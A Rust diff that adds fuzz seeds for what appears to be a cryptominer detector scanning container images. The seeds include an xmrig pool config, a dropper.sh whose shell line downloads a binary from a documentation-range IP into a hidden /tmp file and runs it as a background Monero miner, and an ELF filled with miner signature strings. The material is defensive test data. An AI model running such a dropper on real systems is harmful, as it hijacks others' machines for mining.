@@ -8,8 +8,9 @@ use std::path::Path;
 use crate::hostile::{self, NameRecord};
 use crate::layer::{Entry, tar_bytes};
 use crate::{
-    DEMO_REPO_TAG, demo_image, gzip, tiny_elf, tiny_elf_without_sections,
-    write_docker_archive_classic, write_docker_archive_oci, write_oci_archive, zip_bytes, zstd,
+    DEMO_MONERO_ADDRESS, DEMO_POOL_URL, DEMO_REPO_TAG, demo_image, gzip, tiny_elf,
+    tiny_elf_without_sections, write_docker_archive_classic, write_docker_archive_oci,
+    write_oci_archive, zip_bytes, zstd,
 };
 
 /// An allowlist using every key.
@@ -96,6 +97,30 @@ pub fn write_fuzz_seeds(dir: &Path) -> io::Result<()> {
             "elf",
             "no-sections".into(),
             tiny_elf_without_sections(b"UPX!"),
+        ),
+        // The detector sees any file: what the rules look for, so fuzzing
+        // starts inside the rules' checks in code (run.sh adds the seeds of
+        // the other file targets).
+        (
+            "detector",
+            "xmrig-config.json".into(),
+            format!(
+                r#"{{"pools":[{{"url":"{DEMO_POOL_URL}","user":"{DEMO_MONERO_ADDRESS}","pass":"x"}}],"randomx":{{"1gb-pages":true}},"donate-level":1}}"#
+            )
+            .into_bytes(),
+        ),
+        (
+            "detector",
+            "dropper.sh".into(),
+            format!(
+                "#!/bin/sh\ncurl -fsSL http://203.0.113.7/x -o /tmp/.x && chmod +x /tmp/.x\n/tmp/.x -o {DEMO_POOL_URL} -u {DEMO_MONERO_ADDRESS} --donate-level 1 -B\n"
+            )
+            .into_bytes(),
+        ),
+        (
+            "detector",
+            "miner-elf".into(),
+            tiny_elf(b"xmrig --donate-level randomx rx/0 stratum+tcp:// cryptonight mining.subscribe"),
         ),
         ("allowlist", "every-key.yaml".into(), ALLOWLIST.into()),
         ("config_file", "minehound.toml".into(), CONFIG.into()),
